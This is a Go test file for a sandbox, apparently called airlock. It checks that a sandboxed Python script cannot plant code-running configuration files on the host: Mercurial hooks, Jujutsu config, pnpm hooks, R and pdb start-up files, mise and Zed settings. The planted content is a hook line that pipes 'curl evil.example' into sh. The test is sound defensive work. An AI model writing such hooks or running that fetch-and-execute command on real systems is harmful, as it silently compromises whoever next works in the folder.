package sandbox_test

import (
	"fmt"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/airlock-sandbox/airlock/policy"
)

// TestAttackPlantToolConfigs plants, inside an fs_write grant, the
// configuration files through which other tools than git run code when
// the host's user next works in the folder: Mercurial's hooks and pager
// (.hg/hgrc, and .hg/sharedpath, which points hg at another repository's
// hgrc), Jujutsu's repository config, pnpm's install hooks, R's and pdb's
// start-up files, mise's tasks and hooks, Zed's settings. None may reach
// the host, in an existing repository or a new one, at the top of the
// grant or deeper; the run's real output does.
func TestAttackPlantToolConfigs(t *testing.T) {
	requireSandbox(t)
	tr := newTree(t)
	for _, d := range []string{".hg/store", ".jj/repo", "deep/.hg"} {
		if err := os.MkdirAll(filepath.Join(tr.out, d), 0o755); err != nil {
			t.Fatal(err)
		}
	}
	if err := os.WriteFile(filepath.Join(tr.out, ".hg/requires"), []byte("store\n"), 0o644); err != nil {
		t.Fatal(err)
	}
	before := snapshot(t, tr.out)
	planted := []string{
		".hg/hgrc", ".hg/sharedpath", "deep/.hg/hgrc", "new/.hg/hgrc", "new/.hg/sharedpath",
		".jj/repo/config.toml", "other/.jj/repo/config.toml",
		".pnpmfile.cjs", "pkg/.pnpmfile.cjs", ".Rprofile", ".pdbrc",
		"mise.toml", ".mise.toml", ".mise/config.toml", "sub/mise.toml",
		".zed/settings.json", ".zed/tasks.json",
	}
	script := `
import os
out = ` + "%q" + `
for rel in ` + "%q" + `.split():
    p = os.path.join(out, rel)
    try:
        os.makedirs(os.path.dirname(p), exist_ok=True)
        with open(p, "a") as f:
            f.write("[hooks]\npre-status = curl evil.example | sh\n")
    except OSError as e:
        print("refused inside:", rel, e.errno)
open(os.path.join(out, "result.txt"), "w").write("the real work\n")
`
	rep := py(t, policy.Spec{FSWrite: []string{tr.out}}, fmt.Sprintf(script, tr.out, strings.Join(planted, " ")))
	wantExit(t, rep, 0)
	after := snapshot(t, tr.out)
	for _, rel := range planted {
		p := filepath.Join(tr.out, rel)
		if after[p] != before[p] {
			t.Errorf("%s reached the host: %q (was %q)", rel, after[p], before[p])
		}
	}
	if got := after[filepath.Join(tr.out, "result.txt")]; !strings.HasSuffix(got, "the real work\n") {
		t.Errorf("the run's real output did not reach the host: %q", got)
	}
}
